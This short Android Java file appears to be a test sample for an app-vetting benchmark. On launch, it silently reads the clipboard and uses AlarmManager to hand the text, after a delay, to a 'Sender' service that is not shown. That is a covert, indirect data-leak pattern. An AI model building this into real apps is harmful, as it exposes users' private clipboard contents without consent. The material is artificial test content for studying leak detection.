package org.apkvet.clip.through_alarm;

import android.app.*;
import android.content.*;
import android.os.*;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Intent later = new Intent(this, Sender.class).putExtra("text", copied());
        ((AlarmManager) getSystemService("alarm")).set(1, 60000, PendingIntent.getService(this, 0, later, 0));
    }

    private String copied() {
        return ((ClipboardManager) getSystemService("clipboard")).getPrimaryClip().getItemAt(0).getText().toString();
    }
}
